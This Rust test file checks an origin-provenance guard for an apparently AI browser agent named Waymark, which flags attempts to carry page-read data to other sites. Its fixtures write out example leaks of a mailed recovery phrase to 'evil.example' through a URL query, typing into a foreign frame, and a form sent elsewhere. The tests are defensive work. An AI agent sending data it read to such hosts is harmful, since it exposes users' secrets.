//! The origin sets: each road data could leave by (an address, typing into another origin's field or
//! frame, a form sent elsewhere), what counts as the user's own words, and what joins a task's set.

use super::*;
use waymark_protocol::{ElementInfo, Pin, Submission};

const MAIL: &str = "https://mail.example/inbox/42";
/// What a mail said, which the model read.
const SECRET: &str = "Your recovery phrase is TANGERINE-OSPREY-4471";

fn page(url: &str) -> Effect {
    Effect {
        pin: Pin {
            tab: 1,
            frame: 0,
            document: "d".into(),
            element: None,
        },
        page_url: url.into(),
        site_name: None,
        target: None,
        focused: false,
        option: None,
        linked: false,
        resends: None,
        keys: None,
    }
}

/// A text field in a frame showing `frame_url`, on the page `page_url`.
fn field(page_url: &str, frame_url: &str) -> Effect {
    Effect {
        target: Some(ElementInfo {
            role: "textbox".into(),
            name: "Message".into(),
            tag: "input".into(),
            editable: true,
            url: frame_url.into(),
            ..ElementInfo::default()
        }),
        ..page(page_url)
    }
}

/// A submit button of a form on `page_url` sent to `action`, holding what Waymark typed: `carries`.
fn form(page_url: &str, action: &str, carries: &[&str]) -> Effect {
    Effect {
        target: Some(ElementInfo {
            role: "button".into(),
            name: "Search".into(),
            tag: "button".into(),
            url: page_url.into(),
            submits: Some(Submission {
                action: action.into(),
                method: "get".into(),
                carries: carries.iter().map(|c| (*c).to_owned()).collect(),
                ..Submission::default()
            }),
            ..ElementInfo::default()
        }),
        ..page(page_url)
    }
}

fn go(url: &str) -> PageTool {
    PageTool::Navigate { url: url.into() }
}

fn type_(text: &str) -> PageTool {
    PageTool::OverlayAct {
        index: 3,
        action: ActKind::Type,
        text: Some(text.into()),
    }
}

fn click() -> PageTool {
    PageTool::OverlayAct {
        index: 4,
        action: ActKind::Click,
        text: None,
    }
}

/// A provenance where the user asked the agent about their mail, and the agent began on it.
fn on_mail() -> Provenance {
    let mut p = Provenance::default();
    p.note_user_text("Summarise my newest mail and find flights to Oslo");
    p.acting(&Task::Agent, MAIL);
    p
}

#[test]
fn a_site_linked_from_a_page_or_visited_before_is_not_named_by_the_user() {
    let p = on_mail();
    let here = Effect {
        linked: true,
        ..page(MAIL)
    };
    let leaving = p
        .leaving(
            &Task::Agent,
            &go("https://evil.example/c?d=tangerine-osprey-4471"),
            &here,
        )
        .expect("the page links there, but the user did not name it");
    assert_eq!(leaving.carrier, Carrier::Address);
    assert_eq!(leaving.host, "evil.example");
    assert_eq!(leaving.origin, "https://evil.example");
    assert!(
        leaving.words.contains("tangerine osprey 4471"),
        "{}",
        leaving.words
    );
    // A bare site carries nothing.
    assert_eq!(p.leaving(&Task::Agent, &go("https://evil.example/"), &here), None);
}

#[test]
fn the_users_own_words_named_sites_and_the_tasks_own_page_go_at_once() {
    let mut p = on_mail();
    let here = page(MAIL);
    let search = go("https://search.example/search?q=flights+to+Oslo");
    assert_eq!(
        p.leaving(&Task::Agent, &search, &here),
        None,
        "a search for the user's words"
    );
    assert_eq!(
        p.leaving(
            &Task::Agent,
            &go("https://mail.example/inbox/43?from=tangerine"),
            &here
        ),
        None,
        "the page the task began on"
    );
    p.note_user_text("then check www.Travel.example");
    assert_eq!(
        p.leaving(
            &Task::Agent,
            &go("https://travel.example/book?ref=tangerine-osprey"),
            &here
        ),
        None,
        "a site the user named"
    );
    // An origin the user acted in with their own command is theirs too.
    p.note_user_acted("http://127.0.0.1:8001/news");
    assert_eq!(
        p.leaving(
            &Task::Agent,
            &go("http://127.0.0.1:8001/c?d=tangerine-osprey"),
            &here
        ),
        None
    );
    assert!(
        p.leaving(
            &Task::Agent,
            &go("http://127.0.0.1:8002/c?d=tangerine-osprey"),
            &here
        )
        .is_some(),
        "another port is another origin"
    );
}

#[test]
fn page_text_typed_into_a_frame_of_another_origin_asks_however_it_is_written() {
    let p = on_mail();
    let widget = field(MAIL, "https://chat.example/widget");
    for written in [SECRET, "tangerine osprey 4471", "TaNgErInE", "t a n g e r i n e"] {
        let leaving = p
            .leaving(&Task::Agent, &type_(written), &widget)
            .unwrap_or_else(|| panic!("{written:?} into another origin's frame"));
        assert_eq!(leaving.carrier, Carrier::Typing);
        assert_eq!(leaving.host, "chat.example");
    }
    // The user's own words go anywhere; page text stays silent on the task's own page.
    assert_eq!(p.leaving(&Task::Agent, &type_("flights to Oslo"), &widget), None);
    assert_eq!(p.leaving(&Task::Agent, &type_(SECRET), &field(MAIL, MAIL)), None);
    // Too little to carry anything.
    assert_eq!(p.leaving(&Task::Agent, &type_("ok 12"), &widget), None);
}

#[test]
fn a_form_sent_to_another_origin_asks_for_what_waymark_typed_into_it() {
    let p = on_mail();
    let elsewhere = form(MAIL, "https://search.example/find", &[SECRET]);
    let leaving = p
        .leaving(&Task::Agent, &click(), &elsewhere)
        .expect("sent elsewhere");
    assert_eq!(leaving.carrier, Carrier::Form);
    assert_eq!(leaving.host, "search.example");
    let enter = PageTool::Press {
        key: "Enter".into(),
        index: Some(3),
    };
    assert!(p.leaving(&Task::Agent, &enter, &elsewhere).is_some());
    // A search form on the site the user is working in stays silent; so does the user's own search.
    let own = form(MAIL, "https://mail.example/search", &[SECRET]);
    assert_eq!(p.leaving(&Task::Agent, &click(), &own), None);
    let theirs = form(MAIL, "https://search.example/find", &["flights to Oslo"]);
    assert_eq!(p.leaving(&Task::Agent, &click(), &theirs), None);
    // A form with nothing typed into it carries nothing of Waymark's.
    let empty = form(MAIL, "https://search.example/find", &[]);
    assert_eq!(p.leaving(&Task::Agent, &click(), &empty), None);
}

#[test]
fn a_yes_adds_the_origin_to_that_task_only_and_a_new_goal_starts_afresh() {
    let mut p = on_mail();
    let client = Task::Client("Claude Desktop".into());
    p.acting(&client, MAIL);
    let widget = field(MAIL, "https://chat.example/widget");
    let leaving = p.leaving(&Task::Agent, &type_(SECRET), &widget).unwrap();
    p.asked(7, Task::Agent, &leaving);
    p.said_yes(8);
    assert!(
        p.leaving(&Task::Agent, &type_(SECRET), &widget).is_some(),
        "another question's yes"
    );
    p.said_yes(7);
    assert_eq!(p.leaving(&Task::Agent, &type_(SECRET), &widget), None);
    assert!(
        p.leaving(&client, &type_(SECRET), &widget).is_some(),
        "the client's set is its own"
    );
    p.new_task(&Task::Agent);
    p.acting(&Task::Agent, MAIL);
    assert!(p.leaving(&Task::Agent, &type_(SECRET), &widget).is_some());
}

#[test]
fn the_first_page_a_task_acts_on_is_its_own() {
    let mut p = Provenance::default();
    let client = Task::Client("Cursor".into());
    p.acting(&client, "https://shop.example/cart");
    p.acting(&client, "https://evil.example/");
    let widget = field("https://evil.example/", "https://evil.example/");
    assert!(
        p.leaving(&client, &type_(SECRET), &widget).is_some(),
        "a later page is not"
    );
    let cart = field("https://shop.example/cart", "https://shop.example/cart");
    assert_eq!(p.leaving(&client, &type_(SECRET), &cart), None);
}

#[test]
fn bare_hosts_in_the_users_words_are_sites_they_named() {
    let mut p = Provenance::default();
    p.note_user_text("Open www.Amazon.de, then check mail at https://mail.example/.");
    assert!(p.in_set(&Task::Agent, "amazon.de", "https://amazon.de"));
    assert!(p.in_set(&Task::Agent, "www.amazon.de", "https://www.amazon.de"));
    assert!(p.in_set(&Task::Agent, "mail.example", "https://mail.example"));
    assert!(!p.in_set(&Task::Agent, "evil.example", "https://evil.example"));
    assert!(bare_host("v1.2").is_none());
}

#[test]
fn only_actions_that_send_something_are_judged_this_way() {
    let p = on_mail();
    assert_eq!(p.leaving(&Task::Agent, &PageTool::Back, &page(MAIL)), None);
    let link = field(MAIL, "https://chat.example/widget");
    assert_eq!(
        p.leaving(&Task::Agent, &click(), &link),
        None,
        "a click that sends no form"
    );
}
